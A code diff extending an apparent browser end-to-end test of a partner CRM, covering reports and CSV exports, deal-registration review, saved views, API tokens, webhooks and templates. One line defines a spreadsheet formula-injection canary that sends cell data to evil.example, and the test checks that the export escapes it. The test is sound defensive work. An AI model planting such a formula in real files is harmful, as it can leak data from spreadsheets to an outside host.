@@ -105,6 +105,14 @@ async function run() {
   const id = a.url().match(/objects\/([0-9a-f]{64})/)[1];
   const priv = a.getByRole('region', {name: 'Private fields'});
   await priv.getByText(`${CANARY}.00 EUR`).waitFor();
+  // money: an amount and a currency from the list, the value's own first
+  await priv.getByRole('button', {name: 'Edit Deal size'}).click();
+  assert.equal(await priv.getByLabel('Deal size currency').inputValue(), 'EUR');
+  assert.equal(await priv.getByLabel('Deal size amount').inputValue(), `${CANARY}.00`);
+  await priv.getByLabel('Deal size amount').fill(`${CANARY}.50`);
+  await priv.getByLabel('Deal size currency').selectOption('USD');
+  await priv.getByRole('button', {name: 'Save'}).click();
+  await priv.getByText(`${CANARY}.50 USD`).waitFor();
   await priv.getByRole('button', {name: 'Edit Internal notes'}).click();
   await priv.getByLabel('Internal notes').fill(NOTE);
   await priv.getByRole('button', {name: 'Save'}).click();
@@ -128,7 +136,7 @@ async function run() {
   await a.goto(`${ACME}/objects/${id}`);
   await a.getByRole('region', {name: 'Private fields'}).getByText(NOTE).waitFor();
   await shot(a, 'acme-object');
-  ok('Acme creates the opportunity with a private deal size, edits private, enum and date fields inline, invites Globex (the invite waits in its inbox)');
+  ok('Acme creates the opportunity with a private deal size, edits money (amount and currency), private, enum and date fields inline, invites Globex (the invite waits in its inbox)');
 
   // the object page's activity timeline and attachments
   const activity = a.getByRole('region', {name: 'Activity'});
@@ -247,8 +255,47 @@ async function run() {
   assert.deepEqual([...readFileSync(await png.path()).subarray(1, 4)], [0x50, 0x4e, 0x47]); // "PNG"
   const [rcsv] = await Promise.all([a.waitForEvent('download'),
     a.getByRole('button', {name: 'Download CSV'}).click()]);
-  assert.equal(readFileSync(await rcsv.path(), 'utf8'), 'stage,count\r\nSolution,1\r\ntotal,1\r\n');
+  // the node's columns: keys, the measures, money one column per currency
+  const rlines = readFileSync(await rcsv.path(), 'utf8').split('\r\n');
+  assert.equal(rlines[0], 'stage,count,open,closed,won,lost,amount USD,open_amount USD', rlines[0]);
+  assert.deepEqual(rlines.slice(1), [`Solution,1,1,0,0,0,${CANARY}.50,${CANARY}.50`,
+    `total,1,1,0,0,0,${CANARY}.50,${CANARY}.50`, '']);
   await shot(a, 'acme-reports');
+  // every kind of report: its chart, its table, its CSV (the deal is
+  // sourced by Globex: the partner column names it in the table, the CSV
+  // has the node's org id)
+  assert.equal(await a.evaluate(async ([oid, g]) => {
+    const me = await (await fetch('/v1/access/me')).json();
+    return (await fetch(`/v1/objects/${oid}`, {method: 'POST',
+      headers: {'Content-Type': 'application/json', 'X-CSRF-Token': me.csrf},
+      body: JSON.stringify({set: {sourced_by: g}})})).status;
+  }, [id, GLOBEX_ORG]), 200);
+  await a.getByLabel('Saved view').selectOption('');
+  for (const [kind, chart, column, header] of [
+    ['Attribution', 'Sourced and influenced per partner', 'sourced_count', 'partner,sourced_count,'],
+    ['Win rate', 'Win rate per partner, quarter', 'win_rate', 'partner,quarter,count,won,lost,win_rate'],
+    ['Deal size', 'Won deals per partner, quarter', 'won', 'partner,quarter,won'],
+    ['Cycle time', 'Days to close per partnered', 'avg_days_to_close', 'partnered,count,reached Prospecting,'],
+    ['MDF', 'MDF requests per program, partner', 'requests', 'program,partner,requests,'],
+    ['Plans', 'Won opportunities per plan', 'plan', 'plan'],
+  ]) {
+    await a.getByRole('combobox', {name: /^Report/}).selectOption({label: kind});
+    await a.getByRole('img', {name: chart}).waitFor();
+    await a.getByRole('columnheader', {name: column, exact: true}).waitFor();
+    const [kcsv] = await Promise.all([a.waitForEvent('download'),
+      a.getByRole('button', {name: 'Download CSV'}).click()]);
+    const kl = readFileSync(await kcsv.path(), 'utf8').split('\r\n');
+    assert.ok(kl[0].startsWith(header), `${kind}: ${kl[0]}`);
+    if (kind === 'Win rate') assert.deepEqual(kl.slice(1), [`${GLOBEX_ORG},2027-Q1,1,0,0,`, 'total,,1,0,0,', '']);
+    if (kind === 'Attribution') {
+      await a.getByRole('cell', {name: 'Globex', exact: true}).waitFor();
+      assert.ok(kl[1].startsWith(`${GLOBEX_ORG},1,1,0,0,`), `Attribution: ${kl[1]}`);
+    }
+    if (kind === 'MDF') assert.ok(kl[1].includes(',1,600.00,500.00,450.00,'), `MDF: ${kl[1]}`);
+    if (kind === 'Win rate') await shot(a, 'acme-report-win-rate');
+  }
+  await a.getByRole('combobox', {name: /^Report/}).selectOption({label: 'Pipeline'});
+  await a.getByRole('img', {name: 'Objects per stage'}).waitFor();
   await a.getByLabel('Group by').fill('region');
   await a.getByRole('button', {name: 'Show'}).click();
   await a.getByRole('cell', {name: 'EMEA'}).waitFor();
@@ -262,7 +309,45 @@ async function run() {
   await a.getByRole('heading', {name: 'View by-region'}).waitFor();
   await a.getByRole('cell', {name: 'EMEA'}).waitFor();
   await shot(a, 'acme-saved-view');
-  ok('the report chart renders; PNG and CSV downloads; grouped by another column, saved as a view and opened again');
+  ok('the report chart renders; PNG and CSV downloads; every kind of report with its chart, table and CSV; grouped by another column, saved as a view and opened again');
+
+  // Acme's inbox: an MDF claim to review, deal registrations with their
+  // conflicts (web.sh made them; Acme's own program is their approver)
+  await a.getByRole('link', {name: 'Inbox'}).click();
+  const claims = a.getByRole('region', {name: 'Claims to review'});
+  await claims.getByRole('listitem', {name: 'Claim Q3 roadshow'})
+    .filter({hasText: '450.00 EUR claimed of 500.00 EUR approved'}).filter({hasText: 'roadshow-photos.zip'}).waitFor();
+  await claims.getByRole('button', {name: 'Approve the claim Q3 roadshow'}).click();
+  await claims.getByText('No claim waiting.').waitFor();
+  const regs = a.getByRole('region', {name: 'Deal registrations'});
+  const reg1 = regs.getByRole('listitem', {name: 'Registration Initech backup', exact: true});
+  const reg2 = regs.getByRole('listitem', {name: 'Registration Initech backup 2', exact: true});
+  await reg1.filter({hasText: '2 likely conflicts'}).waitFor();
+  await reg1.getByRole('list', {name: 'Conflicts of Initech backup'}).getByRole('listitem')
+    .filter({hasText: '100 domain: registration'}).filter({hasText: 'same solution'}).waitFor();
+  await shot(a, 'acme-inbox-registrations');
+  assert.ok(await regs.getByRole('button', {name: 'Approve the registration Initech backup', exact: true}).isDisabled(),
+    'approving a registration needs an expiry date');
+  await a.getByLabel('Expiry date for Initech backup', {exact: true}).fill('2099-12-31');
+  await regs.getByRole('button', {name: 'Approve the registration Initech backup', exact: true}).click();
+  await reg1.waitFor({state: 'detached'});
+  // the other registration of the account and solution now meets one
+  // that holds: approving it too is refused with the node's reason
+  await reg2.getByRole('listitem').filter({hasText: 'approved and unexpired'}).waitFor();
+  await a.getByLabel('Expiry date for Initech backup 2').fill('2099-12-31');
+  await regs.getByRole('button', {name: 'Approve the registration Initech backup 2'}).click();
+  await a.getByRole('alert').filter({hasText: 'at most one approved'}).waitFor();
+  await a.getByLabel('Reason for a rejection').fill('Initech is registered already');
+  await regs.getByRole('button', {name: 'Reject the registration Initech backup 2'}).click();
+  await reg2.waitFor({state: 'detached'});
+  await regs.getByRole('listitem', {name: 'Registration Initech storage'}).filter({hasText: '2 likely conflicts'}).waitFor();
+  const stages = await a.evaluate(async () => {
+    const list = async (t) => (await (await fetch(`/v1/objects?type=${t}`)).json());
+    return [...await list('mdf_request'), ...await list('deal_registration')].map((o) => `${o.title}=${o.stage}`).sort();
+  });
+  assert.deepEqual(stages, ['Initech backup 2=Rejected', 'Initech backup=Approved', 'Initech storage=Submitted',
+    'Q3 roadshow=Claim Approved'], stages.join());
+  ok('Acme reviews an MDF claim (approved, then Claim Approved) and deal registrations in its inbox: conflicts shown, approved with an expiry date, a second approval refused, rejected with a reason');
 
   // the table: filter by stage and name, sort, CSV of what is shown
   await a.getByRole('link', {name: 'Table'}).click();
@@ -287,6 +372,22 @@ async function run() {
   assert.equal(await a.getByLabel('Stage').inputValue(), 'Solution');
   assert.equal(await a.getByLabel('Name contains').inputValue(), 'canary');
   await a.getByRole('columnheader', {name: 'Name'}).and(a.locator('[aria-sort="descending"]')).waitFor();
+  // a named table view, kept on the node: saved, chosen on a plain table,
+  // it sets the filters and the sort again; then removed
+  await a.getByLabel('Table view name').fill('solution-canary');
+  await a.getByRole('button', {name: 'Save table view'}).click();
+  await a.getByRole('status').filter({hasText: 'Saved table view solution-canary'}).waitFor();
+  await a.goto(`${ACME}/table`);
+  await a.getByRole('link', {name: 'Canary Deal'}).waitFor();
+  assert.equal(await a.getByLabel('Stage').inputValue(), '');
+  await a.getByLabel('Saved table view').selectOption('solution-canary');
+  await a.getByRole('columnheader', {name: 'Name'}).and(a.locator('[aria-sort="descending"]')).waitFor();
+  assert.equal(await a.getByLabel('Stage').inputValue(), 'Solution');
+  assert.equal(await a.getByLabel('Name contains').inputValue(), 'canary');
+  assert.match(a.url(), /\/table\?stage=Solution&q=canary&sort=-title$/);
+  await a.getByRole('button', {name: 'Remove table view'}).click();
+  await a.getByRole('status').filter({hasText: 'Removed table view solution-canary'}).waitFor();
+  assert.equal(await a.getByLabel('Saved table view').getByRole('option').count(), 1);
   // a name a spreadsheet would run as a formula is downloaded with an
   // apostrophe in front (spec/crm.md "Formulas"); plain numbers are not
   const formula = '=HYPERLINK("https://evil.example/?"&A1,"formula canary")';
@@ -304,7 +405,7 @@ async function run() {
     a.getByRole('button', {name: 'Download CSV'}).click()]);
   assert.match(readFileSync(await fdl.path(), 'utf8'),
     /^Name,Stage,Close date\r\n"'=HYPERLINK\(""https:\/\/evil\.example\/\?""&A1,""formula canary""\)",Prospecting,\r\n$/);
-  ok('the table filters by stage and name, sorts, and downloads what it shows as CSV (a formula behind an apostrophe); its address keeps the filters and sort across a reload');
+  ok('the table filters by stage and name, sorts, and downloads what it shows as CSV (a formula behind an apostrophe); its address keeps the filters and sort across a reload; a named table view kept on the node sets them again, and is removed');
 
   // partners: each side sees the other connected, with the same safety code
   await a.getByRole('link', {name: 'Partners'}).click();
@@ -377,8 +478,21 @@ async function run() {
   await card(a, 'Solution', 'Canary Deal').waitFor();
   await noPrivate();
   await shot(a, 'acme-board-hidden');
+  // the reports: every kind runs with hide_private=1 (the deal size, a
+  // private field of Acme's, is in no table or CSV)
+  await a.getByRole('link', {name: 'Reports'}).click();
+  await a.getByRole('cell', {name: 'Solution'}).waitFor();
+  await noPrivate();
+  for (const kind of ['Attribution', 'Win rate', 'Deal size', 'Cycle time', 'MDF', 'Plans', 'Pipeline']) {
+    await a.getByRole('combobox', {name: /^Report/}).selectOption({label: kind});
+    await a.getByRole('figure').filter({hasText: /objects|groups/}).waitFor();
+    await noPrivate();
+  }
+  const [hcsv] = await Promise.all([a.waitForEvent('download'),
+    a.getByRole('button', {name: 'Download CSV'}).click()]);
+  assert.ok(!readFileSync(await hcsv.path(), 'utf8').includes(CANARY), 'the deal size in the CSV');
   assert.equal(await a.evaluate(() => localStorage.length), 0);
-  ok('Hide private fields removes every private value from the DOM (the timeline\'s too), across navigation and reload');
+  ok('Hide private fields removes every private value from the DOM (the timeline\'s and every report\'s too), across navigation and reload');
 
   // a viewer: edit controls disabled, a forced request refused
   const viewer = await login(ACME, 'vic', 'Viewer-password-42');
@@ -432,8 +546,54 @@ async function run() {
   await rule.waitFor({state: 'detached'});
   await a.getByRole('table', {name: 'Templates'}).getByRole('row', {name: /^opportunity/}).waitFor();
   await a.getByRole('region', {name: 'Webhooks'}).getByText('No webhook.').waitFor();
+  // an API token for vic, shown once, works, and is revoked
+  await a.getByLabel('Token user').selectOption('vic');
+  await a.getByLabel('Scopes').fill('read');
+  await a.getByLabel('Expires in').fill('1d');
+  await a.getByRole('button', {name: 'Create token'}).click();
+  const apiToken = await a.getByRole('textbox', {name: 'New API token'}).inputValue();
+  assert.match(apiToken, /^ent_[0-9a-f]{16}_[0-9a-f]{64}$/);
+  const tokenId = apiToken.slice(4, 20);
+  const tokens = a.getByRole('table', {name: 'API tokens'});
+  await tokens.getByRole('row', {name: new RegExp(`^${tokenId}`)}).getByRole('cell', {name: 'vic'}).waitFor();
+  const bearer = async () => (await fetch(`${ACME}/v1/objects?type=opportunity`,
+    {headers: {Authorization: `Bearer ${apiToken}`}})).status;
+  assert.equal(await bearer(), 200);
+  await a.getByRole('button', {name: 'Done'}).click();
+  await tokens.getByRole('button', {name: `Revoke token ${tokenId}`}).click();
+  await tokens.getByRole('row', {name: new RegExp(`^${tokenId}`)}).waitFor({state: 'detached'});
+  assert.equal(await a.getByRole('textbox', {name: 'New API token'}).count(), 0, 'the token is shown once');
+  assert.equal(await bearer(), 401);
+  // a webhook: added (its secret shown once), paused, removed
+  const hooks = a.getByRole('region', {name: 'Webhooks'});
+  await a.getByLabel('Webhook URL').fill('http://127.0.0.1:9/hook');
+  await a.getByLabel('Events').fill('object.*');
+  await a.getByRole('button', {name: 'Add webhook'}).click();
+  assert.equal((await a.getByRole('textbox', {name: 'New webhook secret'}).inputValue()).length, 44);
+  const hookRow = hooks.getByRole('row', {name: /127\.0\.0\.1:9\/hook/});
+  await hookRow.getByRole('button', {name: /^Pause webhook/}).click();
+  await hookRow.getByRole('cell', {name: 'paused'}).waitFor();
+  await hookRow.getByRole('button', {name: /^Remove webhook/}).click();
+  await hooks.getByText('No webhook.').waitFor();
+  // a template edited as JSON (a bad one refused), then the built-in again
+  const tpls = a.getByRole('table', {name: 'Templates'});
+  await tpls.getByRole('button', {name: 'Edit template lead'}).click();
+  const tplBox = a.getByLabel('Template lead (JSON)');
+  const lead = JSON.parse(await tplBox.inputValue());
+  await tplBox.fill('{"type":');
+  await a.getByRole('button', {name: 'Save template'}).click();
+  await a.getByRole('alert').filter({hasText: 'not JSON'}).waitFor();
+  lead.fields[0].label = 'Company (edited in the page)';
+  await tplBox.fill(JSON.stringify(lead));
+  await a.getByRole('button', {name: 'Save template'}).click();
+  await tplBox.waitFor({state: 'detached'});
+  await tpls.getByRole('row', {name: /^lead yes yes/}).waitFor();
+  const edited = await a.evaluate(async () => (await (await fetch('/v1/templates/lead')).json()).fields[0].label);
+  assert.equal(edited, 'Company (edited in the page)');
+  await tpls.getByRole('button', {name: 'Use the built-in template lead'}).click();
+  await tpls.getByRole('row', {name: /^lead yes no/}).waitFor();
   await shot(a, 'acme-admin');
-  ok('the admin view lists users, tokens, policies, templates and webhooks, adds and disables a user, adds and removes a rule; a viewer sees no Admin link, and the node refuses its forced requests');
+  ok('the admin view lists users, tokens, policies, templates and webhooks, adds and disables a user, adds and removes a rule, makes an API token (shown once, it works, revoked it does not), adds, pauses and removes a webhook, edits a template and goes back to the built-in; a viewer sees no Admin link, and the node refuses its forced requests');
 
   // accessibility: axe-core on every view finds nothing serious; a
   // context that lets the test inject axe's script (the page's CSP would
@@ -447,7 +607,7 @@ async function run() {
   for (const [view, ready] of [
     ['/board', (p) => card(p, 'Solution', 'Canary Deal')],
     [`/objects/${id}`, (p) => p.getByRole('region', {name: 'Activity'}).getByRole('listitem').filter({hasText: NOTE})],
-    ['/inbox', (p) => p.getByRole('region', {name: 'Approvals'})],
+    ['/inbox', (p) => p.getByRole('list', {name: 'Conflicts of Initech storage'})],
     ['/reports', (p) => p.getByRole('cell', {name: 'Solution'})],
     ['/table', (p) => p.getByRole('link', {name: 'Canary Deal'})],
     ['/partners', (p) => p.getByRole('status').filter({hasText: '2 matching accounts'})],
@@ -498,6 +658,28 @@ async function run() {
   assert.equal(await a.getByRole('button', {name: 'Remove Globex'}).count(), 0);
   await shot(a, 'acme-object-left');
   ok('Acme makes Globex a viewer (its page and timeline show it, Globex\'s page follows with edits disabled); Globex leaves from its page; both pages show it removed');
+
+  // Acme's owner removes a member from the object page: a second deal
+  // (made by the API), Globex joins it from its inbox, Acme clicks Remove
+  // Globex once the join has come; both pages show Globex removed
+  const second = await a.evaluate(async () => {
+    const me = await (await fetch('/v1/access/me')).json();
+    const post = async (path, body) => (await fetch(path, {method: 'POST',
+      headers: {'Content-Type': 'application/json', 'X-CSRF-Token': me.csrf},
+      body: JSON.stringify(body)})).json();
+    const o = await post('/v1/objects', {type: 'opportunity', set: {name: 'Second Deal'}});
+    return {id: o.id, token: (await post(`/v1/objects/${o.id}/invites`, {role: 'member'})).token};
+  });
+  await g.goto(`${GLOBEX}/inbox`);
+  await g.getByLabel('Invite token').fill(second.token);
+  await g.getByRole('button', {name: 'Join'}).click();
+  await g.getByRole('heading', {name: /Second Deal/}).waitFor();
+  await a.goto(`${ACME}/objects/${second.id}`);
+  await a.getByRole('button', {name: 'Remove Globex'}).click(); // once Globex's join has come
+  await a.getByRole('region', {name: 'Members'}).getByText(/Globex — member \(removed\)/).waitFor();
+  await g.getByRole('region', {name: 'Members'}).getByText(/Globex — member \(removed\)/).waitFor();
+  assert.ok(await g.getByRole('button', {name: 'Edit Opportunity name'}).isDisabled());
+  ok('Acme\'s owner removes Globex from a second deal on its page; Globex\'s page shows it removed, edits disabled');
 
   // logout ends the session on the node
   const cookies = await viewer.context.cookies();
